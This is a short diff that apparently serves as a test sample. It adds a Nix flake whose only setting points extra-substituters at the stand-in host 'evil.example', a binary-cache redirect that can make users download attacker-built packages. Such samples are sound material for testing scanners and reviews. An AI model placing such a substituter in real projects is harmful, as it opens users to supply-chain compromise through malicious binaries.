@@ -1,0 +1,4 @@
+{
+  nixConfig.extra-substituters = [ "https://evil.example" ];
+  outputs = { ... }: { };
+}
